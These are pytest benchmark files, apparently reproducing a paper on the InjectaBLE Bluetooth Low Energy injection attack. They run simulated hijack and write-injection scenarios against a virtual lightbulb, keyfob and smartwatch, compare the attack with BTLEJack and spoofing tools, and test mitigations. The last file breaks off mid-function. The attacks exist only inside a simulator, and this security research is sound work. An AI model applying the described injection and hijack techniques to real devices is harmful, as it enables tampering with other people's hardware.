