"""S-A .. S-D — the four attack scenarios across all three devices (§VI).

Regenerates the paper's scenario results as a table: each scenario is run
against the lightbulb, keyfob and smartwatch (scenario D's relay demo uses
the write path the phone drives, as in the paper), recording success and
the injection attempt count.  The runners live in
:mod:`repro.experiments.scenarios` (shared with the CLI).
"""

from __future__ import annotations

import pytest

from benchmarks.conftest import N_JOBS, publish
from repro.analysis.reporting import render_series
from repro.experiments.scenarios import run_scenario_suite


@pytest.mark.benchmark(group="scenarios")
def test_scenarios_all_devices(benchmark, results_dir):
    def run_all():
        return [(label, "OK" if ok else "FAILED", f"{attempts} attempt(s)")
                for label, ok, attempts
                in run_scenario_suite(base_seed=1000, jobs=N_JOBS)]

    rows = benchmark.pedantic(run_all, rounds=1, iterations=1)
    table = render_series(
        "Scenarios A-D (paper §VI) across the three devices", rows)
    publish(results_dir, "scenarios", table)
    failures = [r for r in rows if r[1] != "OK"]
    assert not failures, f"scenario failures: {failures}"
