"""E1 — Figure 9, "Hop Interval" panel (paper §VII-A).

Six hop intervals from 25 to 150 slots, 25 connections each, injecting the
22-byte over-the-air Write Request that turns the lightbulb off.

Asserted shape (paper):
  * the attack succeeds for every tested connection;
  * the median number of attempts stays below 4;
  * reliability does not degrade at high intervals (the variance settles).
"""

from __future__ import annotations

import pytest

from benchmarks.conftest import N_CONNECTIONS, N_JOBS, publish
from repro.analysis.reporting import render_distribution_table
from repro.analysis.stats import box_stats
from repro.experiments.common import attempts_of, success_rate
from repro.experiments.hop_interval import HOP_INTERVALS, run_experiment_hop_interval


@pytest.mark.benchmark(group="fig9")
def test_fig9_hop_interval(benchmark, results_dir, trial_cache):
    results = benchmark.pedantic(
        lambda: run_experiment_hop_interval(base_seed=1,
                                            n_connections=N_CONNECTIONS,
                                            jobs=N_JOBS, cache=trial_cache),
        rounds=1, iterations=1,
    )
    samples = {hop: attempts_of(results[hop]) for hop in HOP_INTERVALS}
    table = render_distribution_table(
        "Figure 9 / Experiment 1 — injection attempts vs Hop Interval",
        "hop interval", samples)
    publish(results_dir, "fig9_hop_interval", table)

    for hop in HOP_INTERVALS:
        assert success_rate(results[hop]) == 1.0, \
            f"hop {hop}: not every connection was injectable"
        stats = box_stats(samples[hop])
        assert stats.median < 4.0, f"hop {hop}: median {stats.median}"
    # Variance at the top of the range is no worse than at the bottom.
    assert box_stats(samples[150]).variance <= \
        box_stats(samples[25]).variance + 6.0
