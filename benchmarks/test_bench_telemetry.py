"""PERF-2 — telemetry must be (nearly) free when disabled.

The metrics instrumentation is compiled into the medium/sniffer/injector
hot paths permanently; only ``MetricsRegistry.enabled`` decides whether
call sites pay.  This guard re-times the PERF-1 trial workload (telemetry
off, the default) and compares against the ``BENCH_runner.json``
trajectory recorded *before* the instrumentation existed: throughput on
the same machine class must stay within 2%.

A second A/B measurement times the identical workload with metrics *on*
to record (and loosely bound) the enabled-path cost.
"""

from __future__ import annotations

import json
import os
import statistics
import time
from datetime import datetime, timezone
from pathlib import Path

import pytest

from repro.experiments.common import InjectionTrial
from repro.runner import execute_trials, merge_trial_metrics

#: The PERF-1 trajectory this guard compares against.
BENCH_FILE = Path(__file__).parent.parent / "BENCH_runner.json"

#: Same fixed workload as PERF-1 (8 worlds, E2 hop interval).
PERF_SEEDS = tuple(9_000 + i for i in range(8))

#: Allowed telemetry-disabled throughput regression vs the baseline.
DISABLED_TOLERANCE = 0.02

#: Loose ceiling on the metrics-enabled overhead (counters only cost a
#: guard + an attribute increment per frame; anything past this is a bug).
ENABLED_OVERHEAD_CEILING = 0.25

#: Timing repetitions; the median damps scheduler noise.
ROUNDS = 3


def _workload(collect_metrics: bool) -> list[InjectionTrial]:
    return [InjectionTrial(seed=seed, hop_interval=75,
                           collect_metrics=collect_metrics)
            for seed in PERF_SEEDS]


def _time_serial(trials) -> float:
    """Median wall-clock seconds for the serial workload."""
    timings = []
    for _ in range(ROUNDS):
        start = time.perf_counter()
        results = execute_trials(trials, jobs=1, cache=None)
        timings.append(time.perf_counter() - start)
        assert all(r.success for r in results)
    return statistics.median(timings)


def _baseline_trials_per_sec(cpu_count: int):
    """Best recorded serial throughput for this machine class, or None."""
    try:
        runs = json.loads(BENCH_FILE.read_text())["runs"]
    except (OSError, ValueError, KeyError):
        return None
    comparable = [run["trials_per_sec_serial"] for run in runs
                  if run.get("cpu_count") == cpu_count
                  and run.get("n_trials") == len(PERF_SEEDS)]
    return max(comparable) if comparable else None


@pytest.mark.benchmark(group="perf")
def test_disabled_telemetry_is_free(benchmark, results_dir):
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)

    disabled_s = _time_serial(_workload(collect_metrics=False))
    enabled_s = _time_serial(_workload(collect_metrics=True))
    disabled_tps = len(PERF_SEEDS) / disabled_s
    enabled_tps = len(PERF_SEEDS) / enabled_s
    overhead = enabled_s / disabled_s - 1.0

    # The enabled path must actually produce telemetry (guards real data,
    # not a workload that silently stopped instrumenting anything).
    merged = merge_trial_metrics(
        execute_trials(_workload(collect_metrics=True), jobs=1, cache=None))
    assert merged["counters"]["medium.tx"] > 0

    cpus = os.cpu_count() or 1
    baseline_tps = _baseline_trials_per_sec(cpus)
    record = {
        "utc": datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ"),
        "cpu_count": cpus,
        "n_trials": len(PERF_SEEDS),
        "disabled_trials_per_sec": round(disabled_tps, 3),
        "enabled_trials_per_sec": round(enabled_tps, 3),
        "enabled_overhead": round(overhead, 4),
        "baseline_trials_per_sec": baseline_tps,
    }
    summary = "\n".join(
        ["PERF-2 — telemetry overhead"]
        + [f"  {key:>26}: {value}" for key, value in record.items()]
    )
    print("\n" + summary)
    (results_dir / "perf_telemetry.txt").write_text(summary + "\n")

    assert overhead < ENABLED_OVERHEAD_CEILING, (
        f"metrics-enabled runs cost {overhead:.1%}, expected "
        f"< {ENABLED_OVERHEAD_CEILING:.0%}")
    if baseline_tps is None:
        pytest.skip(f"no {cpus}-core baseline in {BENCH_FILE.name}; "
                    f"recorded measurements only")
    assert disabled_tps >= (1.0 - DISABLED_TOLERANCE) * baseline_tps, (
        f"telemetry-disabled throughput {disabled_tps:.2f} trials/s fell "
        f"more than {DISABLED_TOLERANCE:.0%} below the pre-telemetry "
        f"baseline {baseline_tps:.2f} trials/s")
