"""ABL-1..3 — countermeasure ablations (paper §VIII / §IV).

* ABL-1: injection success rate vs window-widening reduction;
* ABL-2: injection against encrypted connections degrades to DoS;
* ABL-3: IDS detection of InjectaBLE vs the BTLEJack jamming baseline.
"""

from __future__ import annotations

import pytest

from benchmarks.conftest import N_CONNECTIONS, N_JOBS, publish
from repro.analysis.reporting import render_series
from repro.experiments.ablations import (
    WIDENING_SCALES,
    run_encryption_ablation,
    run_ids_ablation,
    run_widening_ablation,
)
from repro.experiments.common import success_rate


@pytest.mark.benchmark(group="ablations")
def test_abl1_widening_reduction(benchmark, results_dir, trial_cache):
    n = max(6, N_CONNECTIONS // 2)
    results = benchmark.pedantic(
        lambda: run_widening_ablation(base_seed=5, n_connections=n,
                                      jobs=N_JOBS, cache=trial_cache),
        rounds=1, iterations=1,
    )
    rows = [(f"widening x{scale}",
             f"injection success rate = {success_rate(results[scale]):.2f}")
            for scale in WIDENING_SCALES]
    publish(results_dir, "abl1_widening",
            render_series("ABL-1 — widening-reduction mitigation (§VIII)",
                          rows))
    # Spec behaviour: reliably injectable; strong reduction: starved out.
    assert success_rate(results[1.0]) >= 0.9
    assert success_rate(results[0.1]) <= 0.2
    rates = [success_rate(results[scale]) for scale in WIDENING_SCALES]
    assert rates[0] >= rates[-1]


@pytest.mark.benchmark(group="ablations")
def test_abl2_encryption(benchmark, results_dir, trial_cache):
    n = max(6, N_CONNECTIONS // 2)
    results = benchmark.pedantic(
        lambda: run_encryption_ablation(base_seed=6, n_connections=n,
                                        jobs=N_JOBS, cache=trial_cache),
        rounds=1, iterations=1,
    )
    injected = sum(r.injection_succeeded for r in results)
    dos = sum(r.dos_observed for r in results)
    rows = [
        ("connections attacked", str(len(results))),
        ("forged traffic accepted", str(injected)),
        ("denial of service (MIC teardown)", str(dos)),
    ]
    publish(results_dir, "abl2_encryption",
            render_series("ABL-2 — encrypted connections (§IV/§VIII): "
                          "integrity holds, availability does not", rows))
    assert injected == 0          # encryption blocks the injection outright
    assert dos >= len(results) // 2  # the residual impact is DoS


@pytest.mark.benchmark(group="ablations")
def test_abl3_ids_detection(benchmark, results_dir):
    results = benchmark.pedantic(
        lambda: run_ids_ablation(base_seed=7, n_runs=5, jobs=N_JOBS),
        rounds=1, iterations=1,
    )
    by_attack = {"injectable": [], "btlejack": []}
    for result in results:
        by_attack[result.attack].append(result)
    rows = []
    for attack, runs in by_attack.items():
        detected = sum(r.detected for r in runs)
        succeeded = sum(r.attack_succeeded for r in runs)
        frames = [r.attacker_frames for r in runs]
        rows.append((attack,
                     f"succeeded {succeeded}/{len(runs)}",
                     f"detected {detected}/{len(runs)}",
                     f"attacker frames {min(frames)}-{max(frames)}"))
    publish(results_dir, "abl3_ids",
            render_series("ABL-3 — IDS detection (§VIII) and the stealth "
                          "contrast with jamming", rows))
    inj = by_attack["injectable"]
    jam = by_attack["btlejack"]
    assert sum(r.detected for r in inj) >= len(inj) - 1
    assert sum(r.detected for r in jam) >= len(jam) - 1
    # The paper's stealth argument quantified: jamming needs an order of
    # magnitude more frames on air than the single-frame injection.
    assert max(r.attacker_frames for r in inj) * 2 <= \
        min(r.attacker_frames for r in jam)
