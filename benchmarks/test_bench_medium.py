"""PERF-2 — medium propagation scaling: indexed vs broadcast.

Times frame delivery through the radio medium at growing world sizes with
the per-channel/spatial indexes on (``Medium(indexed=True)``, the default)
and off (the original broadcast path that samples every frame at every
transceiver).  One record per (mode, size) is appended to
``BENCH_medium.json`` at the repo root so the scaling trajectory is
tracked across PRs.

The workload is synthetic on purpose — N transmitter/receiver pairs spread
over a grid, each pair on its own data channel, every transmitter sending
a 14-byte frame per 2 ms — so the measurement isolates the medium hot path
(lock assignment, power sampling, collision resolution) from link-layer
logic.

Asserted:
  * delivery is **identical** between the two modes — same frames at the
    same receivers with bit-identical RSSI (the per-link counter-indexed
    shadowing substreams make draw order irrelevant);
  * at the largest world size >= ``FLOOR_MIN_PAIRS``, the indexed medium
    is >= ``MIN_SPEEDUP`` faster (conservative CI floor; the full
    100-pair panel records >= 10x on dedicated hardware).

Environment knobs:

* ``REPRO_BENCH_MEDIUM_PAIRS`` — comma-separated world sizes in
  connection pairs (default ``8,32,100``; CI runs a reduced ``8,32``).
"""

from __future__ import annotations

import json
import os
import time
from datetime import datetime, timezone
from pathlib import Path

import pytest

from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology
from repro.sim.transceiver import Transceiver

from benchmarks.conftest import publish

#: Trajectory artefact, kept at the repo root across PRs.
BENCH_FILE = Path(__file__).parent.parent / "BENCH_medium.json"

#: World sizes (transmitter/receiver pairs) in the panel.
PAIR_COUNTS = tuple(
    int(n) for n in
    os.environ.get("REPRO_BENCH_MEDIUM_PAIRS", "8,32,100").split(","))

#: Simulated stretch per measurement; 2 ms per frame per transmitter.
SIM_DURATION_US = 400_000.0
FRAME_PERIOD_US = 2_000.0

#: Data channels cycled over pairs (37 BLE data channels).
N_DATA_CHANNELS = 37

#: Conservative indexed-over-broadcast floor, enforced at the largest
#: measured size when it is >= FLOOR_MIN_PAIRS (below that, world-size
#: pruning has too little to cut for a robust CI assertion).
MIN_SPEEDUP = 2.0
FLOOR_MIN_PAIRS = 32


def _run_world(n_pairs: int, indexed: bool) -> tuple[float, int, list]:
    """Run one synthetic world; returns (wall s, frames sent, deliveries)."""
    # Tracing off: the measurement isolates propagation, not trace I/O.
    sim = Simulator(seed=42, trace_enabled=False)
    topo = Topology()
    for i in range(n_pairs):
        x, y = 4.0 * (i % 10), 8.0 * (i // 10)
        topo.place(f"tx{i:03d}", x, y)
        topo.place(f"rx{i:03d}", x + 2.0, y)
    medium = Medium(sim, topo, indexed=indexed)
    deliveries: list = []
    sent = [0]
    def make_fire(radio, channel, aa):
        def fire():
            radio.transmit(aa, bytes(12), 0, channel)
            sent[0] += 1
            at = sim.now + FRAME_PERIOD_US
            if at < SIM_DURATION_US:
                sim.schedule_at(at, fire)

        return fire

    for i in range(n_pairs):
        tx = Transceiver(sim, medium, f"tx{i:03d}")
        rx = Transceiver(sim, medium, f"rx{i:03d}")
        channel = i % N_DATA_CHANNELS
        rx.listen(channel)
        rx.on_frame = (lambda frame, rssi, n=i:
                       deliveries.append((n, frame.pdu, rssi,
                                          frame.corrupted)))
        # Staggered starts so same-channel pairs interleave rather than
        # colliding on every single frame.
        sim.schedule_at(float(7 * i % 1000),
                        make_fire(tx, channel, 0x50000000 + i))
    start = time.perf_counter()
    sim.run(until_us=SIM_DURATION_US)
    return time.perf_counter() - start, sent[0], deliveries


def _append_trajectory(*records: dict) -> None:
    try:
        data = json.loads(BENCH_FILE.read_text())
        assert isinstance(data.get("runs"), list)
    except (OSError, ValueError, AssertionError):
        data = {"schema": 1, "benchmark": "medium-scaling", "runs": []}
    data["runs"].extend(records)
    BENCH_FILE.write_text(json.dumps(data, indent=2) + "\n")


@pytest.mark.benchmark(group="perf")
def test_medium_scaling(benchmark, results_dir):
    utc = datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
    records = []
    lines = ["PERF-2 — medium propagation scaling (frames/s by world size)"]
    speedups: dict[int, float] = {}
    for n_pairs in PAIR_COUNTS:
        indexed_s, sent, delivered = _run_world(n_pairs, indexed=True)
        broadcast_s, sent_b, delivered_b = _run_world(n_pairs, indexed=False)
        # The indexed medium must be a pure optimisation: identical frames
        # at identical receivers with bit-identical RSSI.
        assert sent == sent_b
        assert delivered == delivered_b
        assert len(delivered) > 0
        speedup = broadcast_s / indexed_s if indexed_s > 0 else float("inf")
        speedups[n_pairs] = speedup
        for mode, wall in (("indexed", indexed_s),
                           ("broadcast", broadcast_s)):
            records.append({
                "utc": utc,
                "mode": mode,
                "n_pairs": n_pairs,
                "n_transceivers": 2 * n_pairs,
                "frames_sent": sent,
                "frames_delivered": len(delivered),
                "wall_s": round(wall, 4),
                "frames_per_sec": round(sent / wall, 1) if wall > 0
                else float("inf"),
                "speedup_vs_broadcast": round(speedup, 2)
                if mode == "indexed" else 1.0,
            })
        lines.append(
            f"  {n_pairs:>4} pairs: indexed {sent / indexed_s:>10.0f} f/s"
            f"  broadcast {sent / broadcast_s:>10.0f} f/s"
            f"  speedup {speedup:>6.2f}x")
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)
    _append_trajectory(*records)
    publish(results_dir, "medium_scaling", "\n".join(lines))

    largest = max(PAIR_COUNTS)
    if largest >= FLOOR_MIN_PAIRS:
        assert speedups[largest] >= MIN_SPEEDUP, (
            f"expected the indexed medium >= {MIN_SPEEDUP}x over broadcast "
            f"at {largest} pairs, got {speedups[largest]:.2f}x")
