"""PERF-3 — campaign service throughput: serial engine vs worker fleets.

Runs one fixed campaign grid through the serial ``run_campaign`` engine
and through ``serve_campaign`` at growing managed-fleet sizes, and
appends a units/s record per mode to ``BENCH_campaign.json`` at the
repo root so the service-scaling trajectory is tracked across PRs.

The workload is synthetic on purpose — every unit sleeps a fixed
``UNIT_COST_S`` inside the worker's killable child — so the measurement
isolates the orchestration overhead (lease round-trips, journal
appends, per-unit process spawn) from simulation cost, and the ideal
scaling curve is known exactly (N workers → N× units/s).

Asserted:
  * every mode completes the full grid with the report byte-identical
    to the serial baseline (the service must never trade correctness
    for throughput);
  * with >= ``FLOOR_MIN_CORES`` CPU cores, the largest fleet is >=
    ``MIN_SPEEDUP``x faster than the serial engine (conservative CI
    floor; the workload is sleep-bound, so cores mostly gate how many
    worker+child processes can make progress simultaneously).

Environment knobs:

* ``REPRO_BENCH_CAMPAIGN_UNITS`` — grid size (default 40);
* ``REPRO_BENCH_CAMPAIGN_WORKERS`` — comma-separated fleet sizes
  (default ``1,2,4``).
"""

from __future__ import annotations

import dataclasses
import json
import os
import time
from datetime import datetime, timezone
from pathlib import Path

import pytest

from repro.campaign import (
    CampaignSpec,
    ExperimentDef,
    build_report,
    load_state,
    register_experiment,
    register_trial_runner,
    run_campaign,
)
from repro.campaign.service import serve_campaign
from repro.experiments.common import TrialResult

from benchmarks.conftest import publish

#: Trajectory artefact, kept at the repo root across PRs.
BENCH_FILE = Path(__file__).parent.parent / "BENCH_campaign.json"

#: Units in the benchmark grid.
N_UNITS = int(os.environ.get("REPRO_BENCH_CAMPAIGN_UNITS", "40"))

#: Managed-fleet sizes measured against the serial engine.
WORKER_COUNTS = tuple(
    int(n) for n in
    os.environ.get("REPRO_BENCH_CAMPAIGN_WORKERS", "1,2,4").split(","))

#: Simulated per-unit cost (sleep inside the trial child).
UNIT_COST_S = 0.05

#: Service-over-serial floor at the largest fleet, enforced only when
#: the machine has enough cores to actually run the fleet in parallel.
MIN_SPEEDUP = 2.0
FLOOR_MIN_CORES = 4


@dataclasses.dataclass(frozen=True)
class _BenchTrial:
    seed: int


def _run_bench_trial(trial):
    time.sleep(UNIT_COST_S)
    return TrialResult(success=True, attempts=trial.seed % 3 + 1,
                      effect_observed=True, connection_survived=True)


def _bench_units(base_seed=0, n_connections=2):
    return [("sleep", _BenchTrial(seed=base_seed + i))
            for i in range(n_connections)]


register_experiment(ExperimentDef(
    "bench-sleep", _bench_units, "fixed-cost benchmark fixture"),
    replace=True)
register_trial_runner(_BenchTrial, _run_bench_trial, replace=True)


def _bench_spec() -> CampaignSpec:
    return CampaignSpec.from_dict({
        "name": "bench-campaign", "seed": 0, "timeout_s": 60,
        "axes": [{"experiment": "bench-sleep", "n_connections": N_UNITS}],
    })


def _append_trajectory(*records: dict) -> None:
    try:
        data = json.loads(BENCH_FILE.read_text())
        assert isinstance(data.get("runs"), list)
    except (OSError, ValueError, AssertionError):
        data = {"schema": 1, "benchmark": "campaign-service", "runs": []}
    data["runs"].extend(records)
    BENCH_FILE.write_text(json.dumps(data, indent=2) + "\n")


@pytest.mark.benchmark(group="perf")
def test_campaign_service_scaling(benchmark, results_dir, tmp_path):
    utc = datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
    spec = _bench_spec()

    start = time.perf_counter()
    serial_state = run_campaign(spec, tmp_path / "serial.jsonl", jobs=1)
    serial_s = time.perf_counter() - start
    assert serial_state.done == N_UNITS
    serial_report = build_report(load_state(tmp_path / "serial.jsonl"))
    serial_rate = N_UNITS / serial_s

    records = [{
        "utc": utc, "mode": "serial", "workers": 0, "units": N_UNITS,
        "unit_cost_s": UNIT_COST_S, "wall_s": round(serial_s, 4),
        "units_per_sec": round(serial_rate, 2), "speedup_vs_serial": 1.0,
    }]
    lines = [f"PERF-3 — campaign service throughput "
             f"({N_UNITS} units x {UNIT_COST_S:.2f}s)",
             f"  serial engine: {serial_rate:>7.2f} units/s "
             f"({serial_s:.2f}s)"]
    speedups: dict = {}
    for workers in WORKER_COUNTS:
        journal = tmp_path / f"served-{workers}.jsonl"
        start = time.perf_counter()
        state = serve_campaign(spec, journal, workers=workers)
        wall = time.perf_counter() - start
        assert state.done == N_UNITS and not state.pending
        # correctness first: identical report at every fleet size
        assert build_report(load_state(journal)) == serial_report
        rate = N_UNITS / wall
        speedups[workers] = rate / serial_rate
        records.append({
            "utc": utc, "mode": "service", "workers": workers,
            "units": N_UNITS, "unit_cost_s": UNIT_COST_S,
            "wall_s": round(wall, 4), "units_per_sec": round(rate, 2),
            "speedup_vs_serial": round(speedups[workers], 2),
        })
        lines.append(f"  {workers} worker(s): {rate:>7.2f} units/s "
                     f"({wall:.2f}s, {speedups[workers]:.2f}x serial)")

    benchmark.pedantic(lambda: None, rounds=1, iterations=1)
    _append_trajectory(*records)
    publish(results_dir, "campaign_service_scaling", "\n".join(lines))

    cores = os.cpu_count() or 1
    largest = max(WORKER_COUNTS)
    if cores >= FLOOR_MIN_CORES and largest >= 4:
        assert speedups[largest] >= MIN_SPEEDUP, (
            f"expected the {largest}-worker fleet >= {MIN_SPEEDUP}x over "
            f"the serial engine, got {speedups[largest]:.2f}x")
    else:
        lines.append(f"  (floor skipped: {cores} core(s) < "
                     f"{FLOOR_MIN_CORES})")
