"""BASE-1 — InjectaBLE vs the state of the art (paper §II / §VI-C).

Quantifies the paper's comparison claims:

* BTLEJack hijacks the Master too, but by jamming every event for a whole
  supervision timeout — many frames on air vs InjectaBLE's handful;
* GATTacker/BTLEJuice interpose only before a connection exists;
  InjectaBLE attacks established connections.
"""

from __future__ import annotations

import pytest

from benchmarks.conftest import publish
from repro.analysis.reporting import render_series
from repro.core.attacker import Attacker
from repro.core.baselines import BtleJackHijack, BtleJuiceMitm, GattackerMitm
from repro.core.scenarios import MasterHijackScenario
from repro.devices import Lightbulb, Smartphone
from repro.host.stack import CentralHost
from repro.ll.master import MasterLinkLayer
from repro.ll.pdu.address import BdAddress
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


def _hijack_world(seed):
    sim = Simulator(seed=seed, trace_enabled=False)
    topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
    medium = Medium(sim, topo)
    bulb = Lightbulb(sim, medium, "bulb")
    bulb.ll.readvertise_on_disconnect = False
    phone = MasterLinkLayer(sim, medium, "phone",
                            BdAddress.from_str("C0:FF:EE:00:00:10"),
                            interval=36, timeout=100)
    CentralHost(phone)
    attacker = Attacker(sim, medium, "attacker")
    attacker.sniff_new_connections()
    bulb.power_on()
    phone.connect(bulb.address)
    sim.run(until_us=1_500_000)
    assert attacker.synchronized
    return sim, bulb, phone, attacker


def run_injectable_hijack(seed):
    sim, bulb, phone, attacker = _hijack_world(seed)
    results = []
    MasterHijackScenario(attacker, instant_delta=40).run(
        on_done=results.append)
    start = sim.now
    sim.run(until_us=25_000_000)
    ok = bool(results and results[0].success and bulb.ll.is_connected)
    frames = results[0].report.attempts if results else 0
    return ok, frames, sim.now - start


def run_btlejack_hijack(seed):
    sim, bulb, phone, attacker = _hijack_world(seed)
    attacker.release_radio()
    results = []
    hijack = BtleJackHijack(sim, attacker.radio, attacker.connection)
    hijack.start(on_done=results.append)
    start = sim.now
    sim.run(until_us=25_000_000)
    ok = bool(results and results[0].hijacked and bulb.ll.is_connected)
    return ok, hijack.jam_frames, (results[0].duration_us if results else 0)


def run_spoofing(tool_cls, established, seed):
    sim = Simulator(seed=seed, trace_enabled=False)
    topo = Topology()
    topo.place("bulb", 0.0, 0.0)
    topo.place("phone", 2.0, 0.0)
    topo.place("attacker", 1.0, 1.0)
    medium = Medium(sim, topo)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone")
    tool = tool_cls(sim, medium, "attacker", victim=bulb)
    bulb.power_on()
    if established:
        phone.connect_to(bulb.address)
        sim.run(until_us=2_000_000)
        tool.start()
        sim.run(until_us=12_000_000)
    else:
        tool.start()
        sim.run(until_us=2_000_000)
        phone.connect_to(bulb.address)
        sim.run(until_us=12_000_000)
    return tool.result.central_captured


@pytest.mark.benchmark(group="baselines")
def test_baseline_comparison(benchmark, results_dir):
    def run_all():
        rows = []
        inj_ok, inj_frames, inj_time = run_injectable_hijack(2001)
        rows.append(("InjectaBLE master hijack",
                     "OK" if inj_ok else "FAILED",
                     f"{inj_frames} frames on air",
                     f"{inj_time/1e6:.1f} s to takeover"))
        jack_ok, jam_frames, jack_time = run_btlejack_hijack(2002)
        rows.append(("BTLEJack jamming hijack",
                     "OK" if jack_ok else "FAILED",
                     f"{jam_frames} frames on air",
                     f"{jack_time/1e6:.1f} s to takeover"))
        for name, cls in (("GATTacker", GattackerMitm),
                          ("BTLEJuice", BtleJuiceMitm)):
            pre = run_spoofing(cls, established=False, seed=2003)
            est = run_spoofing(cls, established=True, seed=2004)
            rows.append((name,
                         f"pre-connection capture: {pre}",
                         f"established-connection capture: {est}"))
        return rows, inj_ok, inj_frames, jack_ok, jam_frames

    rows, inj_ok, inj_frames, jack_ok, jam_frames = benchmark.pedantic(
        run_all, rounds=1, iterations=1)
    publish(results_dir, "baselines",
            render_series("BASE-1 — InjectaBLE vs related work (§II)", rows))

    assert inj_ok and jack_ok
    # The stealth gap: single-digit injected frames vs a jam per event
    # across the whole supervision timeout.
    assert inj_frames * 2 <= jam_frames
    # Spoofing tools work pre-connection only.
    spoof_rows = [r for r in rows if r[0] in ("GATTacker", "BTLEJuice")]
    for row in spoof_rows:
        assert "pre-connection capture: True" in row[1]
        assert "established-connection capture: False" in row[2]
