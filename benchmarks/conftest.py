"""Shared benchmark plumbing.

Each benchmark regenerates one of the paper's evaluation artefacts (a
Figure 9 panel, the §VI scenario table, or an ablation) and

* prints the rendered table (visible with ``pytest -s``),
* writes it under ``benchmarks/results/`` for EXPERIMENTS.md,
* asserts the qualitative *shape* the paper reports.

Environment knobs:

* ``REPRO_BENCH_CONNECTIONS`` — per-configuration sample size
  (paper-faithful default: 25);
* ``REPRO_BENCH_JOBS`` — worker processes per sweep (default 1 = serial;
  0 = all cores).  Results are identical at any job count;
* ``REPRO_BENCH_CACHE`` — set to ``1`` to reuse/persist trial results in
  the on-disk cache (``repro cache clear`` resets it).  Off by default so
  benchmark timings stay honest.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

RESULTS_DIR = Path(__file__).parent / "results"

#: Connections per configuration (paper: 25).
N_CONNECTIONS = int(os.environ.get("REPRO_BENCH_CONNECTIONS", "25"))

#: Worker processes per sweep (1 = serial, 0 = all cores).
N_JOBS = int(os.environ.get("REPRO_BENCH_JOBS", "1"))

#: Whether panels reuse the on-disk trial-result cache.
USE_CACHE = os.environ.get("REPRO_BENCH_CACHE", "0") == "1"


@pytest.fixture(scope="session")
def results_dir() -> Path:
    RESULTS_DIR.mkdir(exist_ok=True)
    return RESULTS_DIR


@pytest.fixture(scope="session")
def trial_cache():
    """The shared on-disk cache, or ``None`` when ``REPRO_BENCH_CACHE`` is off."""
    if not USE_CACHE:
        return None
    from repro.runner import ResultCache

    return ResultCache()


def publish(results_dir: Path, name: str, text: str) -> None:
    """Print a rendered result table and persist it."""
    print("\n" + text)
    (results_dir / f"{name}.txt").write_text(text + "\n")
