"""Shared benchmark plumbing.

Each benchmark regenerates one of the paper's evaluation artefacts (a
Figure 9 panel, the §VI scenario table, or an ablation) and

* prints the rendered table (visible with ``pytest -s``),
* writes it under ``benchmarks/results/`` for EXPERIMENTS.md,
* asserts the qualitative *shape* the paper reports.

``REPRO_BENCH_CONNECTIONS`` overrides the per-configuration sample size
(paper-faithful default: 25).
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

RESULTS_DIR = Path(__file__).parent / "results"

#: Connections per configuration (paper: 25).
N_CONNECTIONS = int(os.environ.get("REPRO_BENCH_CONNECTIONS", "25"))


@pytest.fixture(scope="session")
def results_dir() -> Path:
    RESULTS_DIR.mkdir(exist_ok=True)
    return RESULTS_DIR


def publish(results_dir: Path, name: str, text: str) -> None:
    """Print a rendered result table and persist it."""
    print("\n" + text)
    (results_dir / f"{name}.txt").write_text(text + "\n")
