"""PERF-1 — trial-runner throughput, engine speedup, hot-path trajectory.

Times a fixed, fully deterministic trial workload under both simulation
engines — the event-by-event **reference** path (serially and through the
process-pool runner) and the analytic **fast** path (quiet connection
events batched closed-form, see :mod:`repro.sim.fastforward`) — plus a
tight event-queue microbenchmark, and appends one record per engine to
``BENCH_runner.json`` at the repo root so future PRs can track throughput
regressions.

Asserted:
  * the parallel reference run returns **bit-identical** results to the
    serial reference run (field-for-field ``TrialResult`` equality);
  * the fast engine returns **bit-identical** results to the reference
    engine on the same workload, and actually fast-forwarded events;
  * the fast engine is >= 5x faster than the reference serially (the
    conservative CI floor; dedicated hardware shows >= 10x);
  * on a machine with >= 4 cores, 4 workers deliver >= 3x wall-clock
    speedup on the reference workload (on smaller boxes the speedup is
    recorded but not asserted).
"""

from __future__ import annotations

import json
import os
import time
from datetime import datetime, timezone
from pathlib import Path

import pytest

from repro.experiments.common import InjectionTrial
from repro.runner import execute_trials
from repro.sim import fastforward
from repro.sim.events import EventQueue

#: Trajectory artefact, kept at the repo root across PRs.
BENCH_FILE = Path(__file__).parent.parent / "BENCH_runner.json"

#: The fixed workload: 8 independent worlds at the paper's E2 hop interval.
PERF_SEEDS = tuple(9_000 + i for i in range(8))

#: Workers used for the parallel measurement (the acceptance target).
PERF_JOBS = 4

#: Minimum serial fast/reference speedup enforced everywhere, CI included.
MIN_ENGINE_SPEEDUP = 5.0


def _workload() -> list[InjectionTrial]:
    return [InjectionTrial(seed=seed, hop_interval=75) for seed in PERF_SEEDS]


def _bench_event_queue(n_events: int = 100_000) -> float:
    """Push/pop throughput of the event heap, in events per second."""
    queue = EventQueue()
    handler = lambda: None  # noqa: E731 - trivial callback
    start = time.perf_counter()
    for i in range(n_events):
        queue.push(float(i % 977), handler)
    while queue.pop() is not None:
        pass
    elapsed = time.perf_counter() - start
    return n_events / elapsed


def _append_trajectory(*records: dict) -> None:
    try:
        data = json.loads(BENCH_FILE.read_text())
        assert isinstance(data.get("runs"), list)
    except (OSError, ValueError, AssertionError):
        data = {"schema": 1, "benchmark": "trial-runner", "runs": []}
    data["runs"].extend(records)
    BENCH_FILE.write_text(json.dumps(data, indent=2) + "\n")


@pytest.mark.benchmark(group="perf")
def test_runner_throughput(benchmark, results_dir, monkeypatch):
    trials = _workload()

    monkeypatch.setenv(fastforward.ENGINE_ENV_VAR,
                       fastforward.ENGINE_REFERENCE)
    start = time.perf_counter()
    serial = execute_trials(trials, jobs=1, cache=None)
    serial_s = time.perf_counter() - start

    start = time.perf_counter()
    parallel = execute_trials(trials, jobs=PERF_JOBS, cache=None)
    parallel_s = time.perf_counter() - start

